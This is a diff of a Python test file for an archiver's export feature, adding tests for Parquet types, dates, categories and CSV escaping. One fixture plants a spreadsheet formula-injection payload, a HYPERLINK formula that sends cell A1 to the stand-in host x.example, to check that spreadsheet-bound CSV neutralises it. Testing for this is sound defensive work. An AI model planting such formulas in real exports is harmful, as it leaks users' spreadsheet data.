@@ -5,14 +5,16 @@ import io
 import json
 import os
 import pty
+import sqlite3
 import subprocess
 import sys
+from datetime import UTC, datetime, timedelta, timezone
 
 import pytest
 from conftest import ROOT, archiver, assert_one_line_error, rows, run_archiver
 from test_search import ARTICLES, build_archive
 
-from archiver.export import EXPORT_COLUMNS, iter_batches
+from archiver.export import export_columns, iter_batches
 from archiver.store import Archive
 
 PROVENANCE = ("capture_id", "sha256", "fetched_at", "extractor_version")
@@ -21,6 +23,11 @@ PROVENANCE = ("capture_id", "sha256", "fetched_at", "extractor_version")
 @pytest.fixture
 def db(tmp_path):
     return build_archive(tmp_path / "archive.db")
+
+
+def columns(db) -> tuple[str, ...]:
+    with Archive(db) as archive:
+        return export_columns(archive)
 
 
 def captures(db) -> dict:
@@ -38,7 +45,7 @@ def test_jsonl_rows_carry_provenance(db, tmp_path):
     ]
     expected = captures(db)
     for record in records:
-        assert tuple(record) == EXPORT_COLUMNS
+        assert tuple(record) == columns(db)
         assert (record["capture_id"], record["sha256"]) == expected[record["canonical_url"]]
         assert record["fetched_at"] and record["extractor_version"]
         assert record["images"] == [] and isinstance(record["provenance"], dict)  # JSON columns parsed
@@ -68,7 +75,7 @@ def test_parquet_in_batches(db, tmp_path):
     result = archiver("export", "--db", db, "--format", "parquet", "--site", "hue", "-o", out)
     assert result.returncode == 0, result.stderr
     table = pq.read_table(out)
-    assert table.column_names == list(EXPORT_COLUMNS)
+    assert table.column_names == list(columns(db))
     records = table.to_pylist()
     assert [r["title"] for r in records] == [
         "Phòng chống tai nạn giao thông dịp Tết",
@@ -145,3 +152,80 @@ def test_progress_bar_on_a_terminal_only(db, tmp_path):
     assert b"exporting" in shown and b"3/3" in shown
     piped = subprocess.run(command, env=env, capture_output=True, text=True, cwd=ROOT)
     assert "exporting" not in piped.stderr and "3 articles written" in piped.stderr
+
+
+SPREADSHEET_TRAPS = dict(
+    canonical_url="https://danang.gov.vn/tin/9",
+    site="danang",
+    title='=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
+    lead="- Tin tức sự kiện",
+    body="+84 236 3822 000 là số đường dây nóng.",
+    published_at="2024-04-01T10:00:00+07:00",
+    author="@Minh Anh",
+    views=7,
+    category="Thanh tra",
+)
+
+
+def test_csv_for_spreadsheets_runs_no_formula(tmp_path):
+    db = build_archive(tmp_path / "archive.db", [SPREADSHEET_TRAPS])
+    out = tmp_path / "a.csv"
+    assert run_archiver("export", "--db", db, "--format", "csv", "--bom", "-o", out).returncode == 0
+    (row,) = csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))
+    for name in ("title", "lead", "body", "author"):
+        assert row[name] == "'" + SPREADSHEET_TRAPS[name]  # shown as text, the ' before it
+    assert row["views"] == "7" and row["canonical_url"] == SPREADSHEET_TRAPS["canonical_url"]
+    # for programs (no --bom) every cell is exactly as stored
+    plain = run_archiver("export", "--db", db, "--format", "csv")
+    (row,) = csv.DictReader(io.StringIO(plain.stdout))
+    assert all(row[name] == SPREADSHEET_TRAPS[name] for name in ("title", "lead", "body", "author"))
+
+
+def test_parquet_keeps_the_types(db, tmp_path):
+    pa = pytest.importorskip("pyarrow")
+    pq = pytest.importorskip("pyarrow.parquet")
+    out = tmp_path / "a.parquet"
+    assert run_archiver("export", "--db", db, "--format", "parquet", "-o", out).returncode == 0
+    table = pq.read_table(out)
+    schema = table.schema
+    assert schema.field("published_at").type == pa.timestamp("ms", tz="+07:00")
+    assert schema.field("fetched_at").type == pa.timestamp("ms", tz="UTC")
+    assert schema.field("views").type == schema.field("words").type == pa.int64()
+    assert schema.field("images").type == pa.list_(pa.string())
+    assert schema.field("provenance").type == pa.map_(pa.string(), pa.string())
+    records = {r["canonical_url"]: r for r in table.to_pylist()}
+    danang = records["https://danang.gov.vn/tin/1"]
+    assert danang["published_at"] == datetime(2024, 3, 5, 8, 0, tzinfo=timezone(timedelta(hours=7)))
+    assert danang["published_at"].utcoffset() == timedelta(hours=7)
+    ((fetched,),) = rows(db, "SELECT fetched_at FROM articles WHERE canonical_url = 'https://danang.gov.vn/tin/1'")
+    assert danang["fetched_at"] == datetime.fromisoformat(fetched).astimezone(UTC)
+    assert danang["views"] == 1200 and danang["images"] == [] and danang["attachments"] == []
+    assert danang["words"] == 25  # this body does not start with its lead (8 words): counted besides (17)
+
+
+def test_a_date_without_time_is_midnight_in_vietnam(tmp_path):
+    pq = pytest.importorskip("pyarrow.parquet")
+    db = build_archive(tmp_path / "archive.db", [ARTICLES[0] | {"published_at": "2024-03-05"}])
+    out = tmp_path / "a.parquet"
+    assert run_archiver("export", "--db", db, "--format", "parquet", "-o", out).returncode == 0
+    (record,) = pq.read_table(out).to_pylist()
+    assert record["published_at"] == datetime(2024, 3, 5, tzinfo=timezone(timedelta(hours=7)))
+
+
+def test_categories_exported_as_a_list(db, tmp_path):
+    with sqlite3.connect(db) as conn:
+        conn.execute(
+            "UPDATE articles SET categories = ? WHERE site = 'danang'",
+            (json.dumps(["Thanh tra", "Tin tức sự kiện"], ensure_ascii=False),),
+        )
+    out = tmp_path / "a.jsonl"
+    assert run_archiver("export", "--db", db, "-o", out).returncode == 0
+    records = {r["site"]: r for r in map(json.loads, out.read_text(encoding="utf-8").splitlines())}
+    assert records["danang"]["categories"] == ["Thanh tra", "Tin tức sự kiện"]
+    stored = {url: json.loads(value) for url, value in rows(db, "SELECT canonical_url, categories FROM articles")}
+    exported = map(json.loads, out.read_text(encoding="utf-8").splitlines())
+    assert all(r["categories"] == stored[r["canonical_url"]] for r in exported)  # lists, as the archive holds them
+    pq = pytest.importorskip("pyarrow.parquet")
+    assert run_archiver("export", "--db", db, "--format", "parquet", "-o", tmp_path / "a.parquet").returncode == 0
+    table = pq.read_table(tmp_path / "a.parquet")
+    assert {r["site"]: r["categories"] for r in table.to_pylist()}["danang"] == ["Thanh tra", "Tin tức sự kiện"]
